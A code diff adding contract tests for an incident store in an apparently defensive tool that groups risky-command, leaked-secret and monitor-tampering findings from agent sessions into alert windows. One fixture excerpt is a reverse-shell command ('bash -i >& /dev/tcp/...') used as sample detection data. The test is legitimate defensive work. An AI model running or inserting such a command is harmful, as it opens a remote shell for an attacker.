@@ -1,5 +1,14 @@
 import { expect, it } from 'vitest';
-import type { SeenStore, TranscriptWatch, WindowStore } from '#shared/state/types';
+import type { Severity } from '#shared/model/finding';
+import type {
+  IncidentRecordInput,
+  IncidentRecordResult,
+  IncidentStore,
+  IncidentWindow,
+  SeenStore,
+  TranscriptWatch,
+  WindowStore,
+} from '#shared/state/types';
 
 /**
  * The contracts of shared/state/types.ts as tests, run against the in-memory stores (test/cli) and the
@@ -164,5 +173,205 @@ export function transcriptWatchContract(make: Make<TranscriptWatch>): void {
     expect(await s.cursor()).toBe(m * MIN + 1);
     await Promise.all([3, 9, 1, 5].map((n) => s.advance(m * MIN + n * 1_000)));
     expect(await s.cursor()).toBe(m * MIN + 9_000);
+  });
+}
+
+const T0 = Date.parse('2026-03-01T12:00:00Z');
+const WINDOW = 15 * MIN;
+
+function incidentInput(
+  over: Partial<IncidentRecordInput> & { id: string; severity?: Severity; ruleId?: string; excerpt?: string },
+): IncidentRecordInput {
+  const { id, severity = 'HIGH', ruleId = 'cmd-reverse-shell', excerpt, ...rest } = over;
+  return {
+    key: 'session\u0000mallory-0a1b2c3d4e5f6a7b8',
+    scope: 'session',
+    subject: { scope: 'session', sessionId: 'mallory-0a1b2c3d4e5f6a7b8', category: 'risky-command' },
+    finding: { id, ruleId, severity, ...(excerpt ? { excerpt } : {}) },
+    nowMs: T0,
+    windowMs: WINDOW,
+    ...rest,
+  };
+}
+
+async function claimed(
+  s: IncidentStore,
+  key: string,
+  window: number,
+  nowMs: number,
+): Promise<IncidentWindow> {
+  const c = await s.claim(key, window, nowMs, nowMs + 2 * MIN);
+  if (c.status !== 'claimed') throw new Error(`window ${window} not claimable: ${c.status}`);
+  return c.window;
+}
+
+const total = (w: IncidentWindow) => w.counts.reduce((n, c) => n + c.count, 0);
+
+export function incidentContract(make: Make<IncidentStore>): void {
+  it('a session alerts on its first finding and once more on its first CRITICAL; the rest is held', async () => {
+    const s = await make();
+    expect(await s.record(incidentInput({ id: 'a' }))).toEqual({
+      window: 1,
+      closesAtMs: T0 + WINDOW,
+      immediate: 'opened',
+    });
+    expect(await s.record(incidentInput({ id: 'b', nowMs: T0 + MIN }))).toEqual({
+      window: 1,
+      closesAtMs: T0 + WINDOW,
+    });
+    const crit = await s.record(incidentInput({ id: 'c', severity: 'CRITICAL', nowMs: T0 + 2 * MIN }));
+    expect(crit.immediate).toBe('escalated');
+    expect(
+      (await s.record(incidentInput({ id: 'd', severity: 'CRITICAL', nowMs: T0 + 3 * MIN }))).immediate,
+    ).toBeUndefined();
+    // A re-delivery of the opening finding holds the claim again: its alert is sent again, not lost.
+    expect((await s.record(incidentInput({ id: 'a', nowMs: T0 + 4 * MIN }))).immediate).toBe('opened');
+    // A later window of the same session opens no new alert.
+    const later = await s.record(incidentInput({ id: 'e', nowMs: T0 + WINDOW + MIN }));
+    expect(later).toEqual({ window: 2, closesAtMs: T0 + WINDOW + MIN + WINDOW });
+  });
+
+  it('an incident opened by a CRITICAL finding does not escalate again', async () => {
+    const s = await make();
+    expect((await s.record(incidentInput({ id: 'a', severity: 'CRITICAL' }))).immediate).toBe('opened');
+    expect((await s.record(incidentInput({ id: 'b', severity: 'CRITICAL' }))).immediate).toBeUndefined();
+  });
+
+  it('findings without a session open an alert per principal window', async () => {
+    const s = await make();
+    const p = (id: string, nowMs: number) =>
+      incidentInput({
+        id,
+        nowMs,
+        key: 'principal\u0000111122223333\u0000arn:aws:iam::111122223333:user/mallory\u0000monitor-tampering',
+        scope: 'principal',
+        subject: { scope: 'principal', category: 'monitor-tampering' },
+      });
+    expect((await s.record(p('t1', T0))).immediate).toBe('opened');
+    expect((await s.record(p('t2', T0 + MIN))).immediate).toBeUndefined();
+    expect(await s.record(p('t3', T0 + WINDOW))).toEqual({
+      window: 2,
+      closesAtMs: T0 + 2 * WINDOW,
+      immediate: 'opened',
+    });
+  });
+
+  it('keeps incidents apart by key', async () => {
+    const s = await make();
+    expect((await s.record(incidentInput({ id: 'a' }))).immediate).toBe('opened');
+    expect((await s.record(incidentInput({ id: 'b', key: 'session\u0000other-1' }))).immediate).toBe(
+      'opened',
+    );
+  });
+
+  it('due lists closing windows in [from, to) by close time; claim gives counts, excerpts and what was alerted', async () => {
+    const s = await make();
+    await s.record(incidentInput({ id: 'a', excerpt: 'bash -i >& /dev/tcp/203.0.113.9/4444' }));
+    await s.record(incidentInput({ id: 'b', nowMs: T0 + MIN, excerpt: 'second excerpt' }));
+    await s.record(
+      incidentInput({
+        id: 'c',
+        ruleId: 'secret-aws-access-key',
+        severity: 'CRITICAL',
+        excerpt: 'AKIA************MPLE',
+      }),
+    );
+    await s.record(incidentInput({ id: 'b', nowMs: T0 + 2 * MIN }));
+    const other = incidentInput({ id: 'x', key: 'session\u0000other-1', nowMs: T0 + 5 * MIN });
+    await s.record(other);
+    const due = await s.due(T0, T0 + WINDOW + 5 * MIN + 1);
+    expect(due.map((d) => [d.window, d.closesAtMs])).toEqual([
+      [1, T0 + WINDOW],
+      [1, T0 + 5 * MIN + WINDOW],
+    ]);
+    expect(await s.due(T0, T0 + WINDOW)).toEqual([]);
+    const w = await claimed(s, due[0]!.key, 1, T0 + WINDOW);
+    expect(w.subject).toEqual(incidentInput({ id: 'a' }).subject);
+    expect([w.openedAtMs, w.closesAtMs]).toEqual([T0, T0 + WINDOW]);
+    expect(w.counts.sort((a, b) => a.ruleId.localeCompare(b.ruleId))).toEqual([
+      { ruleId: 'cmd-reverse-shell', severity: 'HIGH', count: 2 },
+      { ruleId: 'secret-aws-access-key', severity: 'CRITICAL', count: 1 },
+    ]);
+    expect(w.excerpts).toEqual({
+      'cmd-reverse-shell': 'bash -i >& /dev/tcp/203.0.113.9/4444',
+      'secret-aws-access-key': 'AKIA************MPLE',
+    });
+    expect(w.alerted).toBe(2);
+  });
+
+  it('claims a window once: busy while leased, claimable after the lease, done once digested', async () => {
+    const s = await make();
+    await s.record(incidentInput({ id: 'a' }));
+    const [due] = await s.due(T0, T0 + WINDOW + 1);
+    const at = T0 + WINDOW;
+    expect((await s.claim(due!.key, 1, at, at + MIN)).status).toBe('claimed');
+    expect((await s.claim(due!.key, 1, at + 30_000, at + 30_000 + MIN)).status).toBe('busy');
+    expect((await s.claim(due!.key, 1, at + 2 * MIN, at + 3 * MIN)).status).toBe('claimed');
+    await s.digested(due!.key, 1);
+    expect((await s.claim(due!.key, 1, at + 10 * MIN, at + 11 * MIN)).status).toBe('done');
+    expect((await s.claim(due!.key, 7, at, at + MIN)).status).toBe('done');
+  });
+
+  it('a finding after the claim goes to the next window, even before the close time it read', async () => {
+    const s = await make();
+    await s.record(incidentInput({ id: 'a' }));
+    const [due] = await s.due(T0, T0 + WINDOW + 1);
+    const w = await claimed(s, due!.key, 1, T0 + WINDOW);
+    const late = await s.record(incidentInput({ id: 'b', nowMs: T0 + WINDOW - 1 }));
+    expect(late.window).toBe(2);
+    expect(total(w)).toBe(1);
+    expect(total(await claimed(s, due!.key, 2, late.closesAtMs))).toBe(1);
+  });
+
+  it('concurrent deliveries: one opening alert, at most one escalation, every finding counted once', async () => {
+    const s = await make();
+    const n = 24;
+    const results = await Promise.all(
+      Array.from({ length: n }, (_, i) =>
+        s.record(incidentInput({ id: `f${i}`, severity: i % 5 === 0 ? 'CRITICAL' : 'HIGH', nowMs: T0 + i })),
+      ),
+    );
+    // Re-deliveries racing the originals change nothing.
+    await Promise.all(
+      Array.from({ length: 6 }, (_, i) =>
+        s.record(
+          incidentInput({ id: `f${i}`, severity: i % 5 === 0 ? 'CRITICAL' : 'HIGH', nowMs: T0 + 100 }),
+        ),
+      ),
+    );
+    expect(results.filter((r) => r.immediate === 'opened')).toHaveLength(1);
+    expect(results.filter((r) => r.immediate === 'escalated').length).toBeLessThanOrEqual(1);
+    expect(new Set(results.map((r) => r.window))).toEqual(new Set([1]));
+    const [due] = await s.due(T0, T0 + WINDOW + 1);
+    expect(total(await claimed(s, due!.key, 1, T0 + WINDOW))).toBe(n);
+  });
+
+  it('a claim racing deliveries loses no finding: each lands in the claimed window or the next', async () => {
+    const s = await make();
+    await s.record(incidentInput({ id: 'first' }));
+    const [due] = await s.due(T0, T0 + WINDOW + 1);
+    const n = 20;
+    const [claim, ...results] = await Promise.all([
+      s.claim(due!.key, 1, T0 + WINDOW, T0 + WINDOW + 2 * MIN),
+      ...Array.from({ length: n }, (_, i) =>
+        s.record(incidentInput({ id: `r${i}`, nowMs: T0 + WINDOW - 1 })),
+      ),
+    ]);
+    if (claim?.status !== 'claimed') throw new Error('claim lost');
+    const second = results.filter((r) => 'window' in r && r.window === 2);
+    let counted = total(claim.window);
+    if (second.length > 0) {
+      const closes = (second[0] as IncidentRecordResult).closesAtMs;
+      counted += total(await claimed(s, due!.key, 2, closes));
+    }
+    expect(counted).toBe(n + 1);
+  });
+
+  it('the cursor only moves forward', async () => {
+    const s = await make();
+    expect(await s.cursor()).toBeUndefined();
+    await s.advance(T0);
+    await s.advance(T0 - MIN);
+    expect(await s.cursor()).toBe(T0);
   });
 }
